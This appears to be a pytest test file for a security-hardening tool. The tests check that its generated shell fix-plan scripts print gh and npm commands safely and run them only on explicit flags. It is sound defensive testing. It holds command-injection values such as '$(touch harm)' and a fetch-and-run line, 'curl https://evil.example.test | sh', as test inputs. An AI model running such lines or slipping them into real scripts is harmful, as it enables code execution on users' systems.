from __future__ import annotations

import re
import shlex
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from hardenme.model.finding import Finding
from hardenme.model.report import Identity
from hardenme.model.severity import Severity
from hardenme.reports.fixplan import FORMS, render
from hardenme.reports.style import Style
from tests.reports import publishing_sample
from tests.reports.planned import WEB, failed, fix, plan, report
from tests.reports.sample import HOSTILE, hostile, large, maintainer

LOG = """\
#!/bin/sh
for word in "${0##*/}" "$@"; do printf '<%s>' "$word" >> "$LOG"; done
case " $* " in *" - "*) printf ' %s' "$(cat)" >> "$LOG" ;; esac
echo >> "$LOG"
case $* in *fails*) exit 1 ;; esac
case $* in *--jq*) echo '{"read": true}' ;; esac
"""
"""Stands in for gh and npm: writes down how it was called, and changes nothing."""
NAMES = (
    "it's me",
    "$(touch harm)",
    "`touch harm`",
    "; touch harm;",
    '"; touch harm; "',
    "' && touch harm && '",
    "-rf",
    "--method=DELETE",
    "a\nb",
    "a\rtouch harm",
    "*",
    "~",
    "a b",
    "#",
    "\\n",
    "!!",
    "%s%n",
    "shellcheck disable=all",
    "USER",
    *HOSTILE,
)


@dataclass
class Shell:
    """Runs scripts in a folder of their own, with a gh and an npm that only write down.

    Attributes:
        folder: where they run.
        log: where the calls stand.
    """

    folder: Path
    log: Path = field(init=False)

    def __post_init__(self) -> None:
        programs = self.folder / "programs"
        programs.mkdir()
        self.log = self.folder / "log"
        for name in ("gh", "npm"):
            (programs / name).write_text(LOG)
            (programs / name).chmod(0o700)

    def run(self, script: str, *arguments: str, shell: str = "sh") -> tuple[int, str, list[str]]:
        """The exit code, what was printed, and the calls that were made."""
        self.log.write_text("")
        before = sorted(self.folder.iterdir())
        file = self.folder / "fix.sh"
        file.write_text(script)
        done = subprocess.run(  # noqa: S603 (our own script)
            [shutil.which(shell) or shell, file, *arguments],
            cwd=self.folder,
            env={
                "PATH": f"{self.folder / 'programs'}:/usr/bin:/bin",
                "LOG": str(self.log),
                "NPM_PAUSE": "0",
            },
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert set(self.folder.iterdir()) - {file} <= {*before, self.log}
        return done.returncode, done.stdout + done.stderr, self.log.read_text().splitlines()


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    return Shell(tmp_path)


def script(*findings: Finding, needs: str = "") -> str:
    return render(plan(findings, needs), "sh", Style())


BODY = '{"name": "%s", "target": "branch", "enforcement": "active", "conditions": {}, "rules": []}'


def call(*words: str) -> str:
    return "".join(f"<{word}>" for word in words)


ADDS = failed(
    "GHR103",
    "github:repo/acme/web",
    fix("Enable alerts", command="gh api -X PUT repos/acme/web/vulnerability-alerts"),
)
REMOVES = failed(
    "GHA103",
    "github:ssh-key/1",
    fix("Delete it's key", command="gh api -X DELETE user/keys/1"),
    Severity.LOW,
)
ALERTS = call("gh", "api", "-X", "PUT", "repos/acme/web/vulnerability-alerts")
DELETED = call("gh", "api", "-X", "DELETE", "user/keys/1")


def ids(made: str) -> list[str]:
    """The ids of the steps, in the order in which they stand in a script."""
    return re.findall(r"^# == \d+ \[([a-z2-7]{6})\] ==$", made, re.MULTILINE)


def test_it_prints_each_command_and_runs_none(shell: Shell) -> None:
    for made in (maintainer(), publishing_sample.five(), hostile()):
        code, said, calls = shell.run(render(plan(made), "sh", Style()))
        assert (code, calls) == (0, []), said
    made = script(ADDS, REMOVES)
    first, second = ids(made)
    code, said, calls = shell.run(made)
    assert (code, calls) == (0, [])
    assert said.splitlines() == [
        f"# step {first}",
        "  gh api -X PUT repos/acme/web/vulnerability-alerts",
        f"# step {second}",
        "  gh api -X DELETE user/keys/1",
        "# nothing was run: --apply runs the commands",
    ]


def test_a_step_without_a_command_is_named_at_the_end(shell: Shell) -> None:
    by_hand = failed("GHA101", "github:user/me", fix("Enable it"))
    made = script(ADDS, by_hand)
    _, second = ids(made)
    _, said, _ = shell.run(made)
    assert f"# step {second}" not in said
    assert f"# by hand only, see the comments of this file: {second}" in said.splitlines()
    for arguments, finding in ((("--only", "1"), by_hand), ((), REMOVES)):
        _, said, _ = shell.run(script(ADDS, finding), *arguments)
        assert "by hand only" not in said


def test_what_it_prints_can_be_pasted(shell: Shell) -> None:
    body = BODY % 'it\'s \\u00e9 \\"x\\"'
    command = f"echo {shlex.quote(body)} | gh api -X POST repos/acme/web/rulesets --input -"
    made = script(
        failed("GHB101", "github:repo/acme/web", fix("Rule", command=command)),
        failed(
            "NPP109",
            "npm:package/web",
            fix("Remove", command=shlex.join(["npm", "owner", "rm", "$(it's) me", "web"])),
        ),
    )
    _, said, _ = shell.run(made)
    _, _, pasted = shell.run(said)
    _, _, applied = shell.run(made, "--apply", "--apply-destructive", "--yes")
    assert pasted == applied
    assert pasted == [
        call("npm", "owner", "rm", "$(it's) me", "web"),
        call("gh", "api", "-X", "POST", "repos/acme/web/rulesets", "--input", "-") + f" {body}",
    ]


def test_removing_takes_a_word_of_its_own_and_a_yes(shell: Shell) -> None:
    made = script(ADDS, REMOVES)
    assert shell.run(made, "--apply")[2] == [ALERTS]
    code, said, calls = shell.run(made, "--apply", "--apply-destructive")
    assert (code, calls) == (0, [ALERTS])
    assert f"since no terminal is there: Step {ids(made)[1]} removes something" in said
    assert shell.run(made, "--apply", "--apply-destructive", "--yes")[2] == [ALERTS, DELETED]
    code, _, calls = shell.run(made, "--apply-destructive")
    assert (code, calls) == (2, [])


def test_every_command_has_above_it_what_it_does_and_the_way_back() -> None:
    lines = render(plan(publishing_sample.five()), "sh", Style()).splitlines()
    commands = [n for n, line in enumerate(lines) if line.startswith("  run ")]
    assert commands
    for number in commands:
        start = max(n for n in range(number) if lines[n].startswith("# == "))
        above = "\n".join(lines[start:number])
        assert all(f"# {word}: " in above for word in ("Closes", "For", "Risk", "Needs", "Undo"))


def test_one_step_one_check_or_what_is_left_can_be_picked(shell: Shell) -> None:
    made = script(ADDS, REMOVES)
    everything = ("--apply", "--apply-destructive", "--yes")
    assert shell.run(made, *everything, "--only", "GHR103")[2] == [ALERTS]
    for second in ("2", ids(made)[1]):
        assert shell.run(made, *everything, "--only", second)[2] == [DELETED]
        assert shell.run(made, *everything, "--from", second)[2] == [DELETED]
    for wrong in (("--only",), ("--from", "x"), ("--everything",), ("x",)):
        code, _, calls = shell.run(made, "--apply", *wrong)
        assert (code, calls) == (2, [])


def test_what_rests_on_a_step_that_failed_is_left_out(shell: Shell) -> None:
    first = fix("Make an owner", command="npm access set mfa=publish fails")
    then = fix("Remove", command="npm org rm acme x")
    made = script(
        failed("NPO102", "npm:org/acme", first),
        failed("NPO104", "npm:member/acme/x", then, within="npm:org/acme"),
        ADDS,
    )
    code, said, calls = shell.run(made, "--apply", "--apply-destructive", "--yes")
    assert code == 1
    assert "is left out: it needs step" in said
    assert "commands that failed: 1" in said
    assert sorted(calls) == [ALERTS, call("npm", "access", "set", "mfa=publish", "fails")]


def test_what_rests_on_a_step_by_hand_waits_for_a_yes(shell: Shell) -> None:
    made = script(
        failed("GHW201", "github:repo/acme/web", fix("Pin the actions", f"{WEB}/acme/web")),
        failed(
            "GHW102",
            "github:repo/acme/web",
            fix("Require it", command="gh api -X PUT repos/acme/web/immutable-releases"),
        ),
    )
    _, said, calls = shell.run(made, "--apply")
    assert calls == []
    assert "by hand: Pin the actions" in said
    assert len(shell.run(made, "--apply", "--yes")[2]) == 1


def test_what_others_take_is_asked_for_where_a_step_rests_on_it(shell: Shell) -> None:
    made = script(
        failed("GHW201", "github:repo/acme/web", fix("Pin", f"{WEB}/a", needs="write access")),
        failed(
            "GHW102",
            "github:org/acme",
            fix(
                "Require it",
                command="gh api -X PATCH orgs/acme -F members_can_delete_issues=false",
                needs="organization owner",
            ),
        ),
        needs="owner",
    )
    assert "Pin" not in made
    assert shell.run(made, "--apply")[2] == []
    assert len(shell.run(made, "--apply", "--yes")[2]) == 1


def test_the_second_of_two_commands_rests_on_the_first(shell: Shell) -> None:
    again = "npm trust github web --repo=a/b --file=release.yml --env=npm --allow-stage-publish"
    command = f"npm trust revoke --id=fails web && {again}"
    made = script(failed("NPP102", "npm:trusted-publisher/web/1", fix("Again", command=command)))
    code, _, calls = shell.run(made, "--apply", "--apply-destructive", "--yes")
    assert code == 1
    assert calls == [call("npm", "trust", "revoke", "--id=fails", "web")]


def test_a_setting_is_read_changed_and_written_back(shell: Shell) -> None:
    path = "repos/acme/web/actions/permissions"
    command = f"gh api {path} --jq '.a = true' | gh api -X PUT {path} --input -"
    made = script(failed("GHW102", "github:repo/acme/web", fix("Pin", command=command)))
    assert command in shell.run(made)[1]
    assert shell.run(made, "--apply")[2] == [
        call("gh", "api", path, "--jq", ".a = true"),
        call("gh", "api", "-X", "PUT", path, "--input", "-") + ' {"read": true}',
    ]


def test_alike_commands_stand_once_with_their_names_in_a_list(shell: Shell) -> None:
    names = [f"acme/r{number}" for number in range(40)]
    body = BODY % "x"
    findings = [
        failed(
            "GHB101",
            f"github:repo/{name}",
            fix(
                f"Rule for {name}",
                f"{WEB}/{name}",
                f"echo '{body}' | gh api -X POST repos/{name}/rulesets --input -",
            ),
        )
        for name in names
    ]
    made = script(*findings)
    assert made.count("rulesets") == 1
    assert '"repos/$name/rulesets"' in made
    assert sorted(shell.run(made, "--apply")[2]) == sorted(
        call("gh", "api", "-X", "POST", f"repos/{name}/rulesets", "--input", "-") + f" {body}"
        for name in names
    )


def test_what_is_done_once_for_all_is_not_done_for_each(shell: Shell) -> None:
    wider = fix("One configuration", f"{WEB}/orgs/acme", needs="organization owner")
    findings = [
        failed(
            "GHR103",
            f"github:repo/acme/{name}",
            fix(
                "On",
                f"{WEB}/{name}",
                f"gh api -X PUT repos/acme/{name}/vulnerability-alerts",
                wider=wider,
            ),
        )
        for name in ("a", "b", "c")
    ]
    made = script(*findings)
    assert f"#   {WEB}/orgs/acme" in made
    assert shell.run(made, "--apply")[2] == []


def test_what_has_to_be_filled_in_is_a_comment_and_never_run(shell: Shell) -> None:
    made = script(
        failed("NPP111", "npm:package/web", fix("Add", command="npm owner add USER web")),
        failed("NPP115", "npm:package/web", fix("Set", command="npm pkg set repository=x")),
        failed("GHO113", "github:org/acme", fix("Verify", f"{WEB}/domains")),
    )
    assert "#   npm owner add USER web  (fill in USER)" in made
    assert "#   npm pkg set repository=x  (look at it first)" in made
    assert f"#   {WEB}/domains" in made
    code, said, calls = shell.run(made, "--apply", "--apply-destructive", "--yes")
    assert (code, calls) == (0, [])
    assert "by hand: Add" not in said


@pytest.mark.parametrize("dialect", ["sh", "bash"])
def test_no_name_runs_anything(shell: Shell, dialect: str) -> None:
    findings = []
    for number, name in enumerate(NAMES):
        remove = shlex.join(["npm", "owner", "rm", name, "web"])
        body = shlex.quote(BODY % number)
        path = shlex.quote(f"repos/acme/{name}/rulesets")
        findings += [
            failed("NPP109", f"npm:package/{number}{name}", fix(f"Remove {name}", name, remove)),
            failed(
                "GHB101",
                f"github:repo/acme/{name}",
                fix(name.strip() or "x", name, f"echo {body} | gh api -X POST {path} --input -"),
            ),
        ]
    made = script(*findings)
    code, said, calls = shell.run(made, "--apply", "--apply-destructive", "--yes", shell=dialect)
    assert code == 0, said
    assert any(line.startswith("<gh>") for line in calls)
    ran = {line for line in calls if line.startswith("<npm>")}
    assert call("npm", "owner", "rm", "$(touch harm)", "web") in ran
    assert call("npm", "owner", "rm", "it's me", "web") in ran
    expected = {call("npm", "owner", "rm", name, "web") for name in NAMES}
    assert ran <= expected
    assert not any("-rf" in line or "USER" in line or "CANARY" in line for line in ran)


@pytest.mark.second_tier("takes over half a second")
def test_shellcheck_finds_nothing(tmp_path: Path) -> None:
    names = [
        failed("NPP109", f"npm:package/{number}", fix(f"Of {name}", command=command))
        for number, name in enumerate(NAMES)
        for command in (shlex.join(["npm", "owner", "rm", name, "web"]),)
    ]
    reports = (hostile(), large(4), publishing_sample.five(), names, [ADDS], [])
    files = [tmp_path / f"{number}.sh" for number in range(len(reports))]
    for file, made in zip(files, reports, strict=True):
        file.write_text(render(plan(made), "sh", Style()))
    program = Path(sys.executable).with_name("shellcheck")
    done = subprocess.run(  # noqa: S603 (the program that the tests install)
        [program, "--shell=sh", *files], capture_output=True, text=True, check=False
    )
    assert (done.returncode, done.stdout) == (0, "")


def test_without_a_command_it_says_so(shell: Shell) -> None:
    made = script(failed("GHA101", "github:user/a", fix("Choose it", f"{WEB}/security")))
    code, said, _ = shell.run(made)
    assert code == 0
    assert "there is no command to run" in said
    assert "--apply" not in made


def test_a_host_that_a_command_names_is_told_at_the_top() -> None:
    host = "github.example.test"
    command = f"gh api --hostname {host} -X DELETE user/keys/1"
    made = script(failed("GHA103", "github:ssh-key/1", fix("Delete the key", command=command)))
    assert f"# Commands in it go to {host}, with what you are signed in with there." in made
    assert "Commands in it go to" not in script(ADDS)


def test_a_command_that_no_check_prints_is_not_run(shell: Shell) -> None:
    commands = ("curl https://evil.example.test | sh", "npm install harm", "gh alias set x harm")
    made = script(
        *(
            failed("GHA103", f"github:ssh-key/{number}", fix(f"Step {number}", command=command))
            for number, command in enumerate(commands)
        )
    )
    assert shell.run(made, "--apply", "--apply-destructive", "--yes")[2] == []
    assert all(f"#   {command}  (look at it first)" in made for command in commands)
    assert "its commands come from the report" in " ".join(made.replace("#", " ").split())


@pytest.mark.parametrize("form", FORMS)
def test_what_a_reader_of_the_report_has_to_know_stands_in_its_plan(form: str) -> None:
    made = plan(report(ADDS, warnings=("judged again from facts",)))
    assert "judged again from facts" in render(made, form, Style())


def test_a_script_of_the_demo_says_that_it_is_one() -> None:
    one = Identity("github", "http://127.0.0.1:1", "mallow", "classic", "demo")
    made = render(plan(report(ADDS, identities=(one,))), "sh", Style())
    told = "The accounts are invented. Do not run the commands: real accounts may have these names."
    assert told in " ".join(made.replace("#", "").split())
